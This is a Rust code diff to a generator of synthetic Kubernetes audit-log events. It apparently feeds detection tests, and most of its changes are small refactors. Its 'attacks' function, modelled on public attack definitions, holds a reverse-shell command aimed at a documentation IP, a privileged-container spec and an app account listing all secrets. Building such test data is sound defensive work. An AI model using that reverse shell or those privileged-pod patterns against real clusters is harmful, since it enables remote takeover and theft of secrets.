@@ -165,7 +165,7 @@ pub(crate) fn soak(seed: u64) -> Vec<Call> {
             // The new application is brought up by hand.
             let at = midnight + 10 * 3600;
             let mut new = call(at, "ada", "create", "namespaces", "");
-            new.name = "rent".to_owned();
+            "rent".clone_into(&mut new.name);
             calls.push(new);
             let mut grant = call(at + 60, "ada", "create", "rolebindings", "rent");
             grant.object = binding("RoleBinding", "edit");
@@ -242,13 +242,13 @@ fn pipeline(dice: &mut Dice, midnight: u64, app: &str, weekday: bool, calls: &mu
         };
         let mut deploy = call(at, &user, "patch", "deployments", app);
         deploy.object = workload("Deployment", &image, &json!({}));
-        deploy.agent = "helm/v3.15.1".to_owned();
+        "helm/v3.15.1".clone_into(&mut deploy.agent);
         calls.push(deploy);
         let mut look = call(at + 5, &user, "list", "pods", app);
-        look.agent = "helm/v3.15.1".to_owned();
+        "helm/v3.15.1".clone_into(&mut look.agent);
         calls.push(look);
         let mut keep = call(at + 6, &user, "list", "secrets", app);
-        keep.agent = "helm/v3.15.1".to_owned();
+        "helm/v3.15.1".clone_into(&mut keep.agent);
         calls.push(keep);
     }
 }
@@ -310,6 +310,17 @@ fn people(
     }
 }
 
+/// An attack: name; who; verb; resource; subresource; namespace; object.
+type Row = (
+    &'static str,
+    String,
+    &'static str,
+    &'static str,
+    &'static str,
+    &'static str,
+    Value,
+);
+
 /// Attacks by principals with habits, after public definitions (the projects' names beside each), one a day from `day` on.
 pub(crate) fn attacks(day: u64) -> Vec<Call> {
     let privileged = json!({"securityContext": {"privileged": true}});
@@ -319,16 +330,6 @@ pub(crate) fn attacks(day: u64) -> Vec<Call> {
     });
     let shell = json!({"command": ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"]});
     let app = |name: &str| account(name, "app");
-    // Name; who; verb; resource; subresource; namespace; object.
-    type Row = (
-        &'static str,
-        String,
-        &'static str,
-        &'static str,
-        &'static str,
-        &'static str,
-        Value,
-    );
     let rows: Vec<Row> = vec![
         (
             "app account lists all secrets (Stratus, Leonidas)",
@@ -476,11 +477,11 @@ pub(crate) fn attacks(day: u64) -> Vec<Call> {
                 }
                 match attack {
                     a if a.contains("from elsewhere") => {
-                        attacked.address = "203.0.113.50".to_owned();
-                        attacked.agent = "curl/8.5.0".to_owned();
+                        "203.0.113.50".clone_into(&mut attacked.address);
+                        "curl/8.5.0".clone_into(&mut attacked.agent);
                     }
                     a if a.contains("app account") => {
-                        attacked.agent = "kubectl/v1.30.0 (linux/amd64)".to_owned();
+                        "kubectl/v1.30.0 (linux/amd64)".clone_into(&mut attacked.agent);
                     }
                     _ => {}
                 }
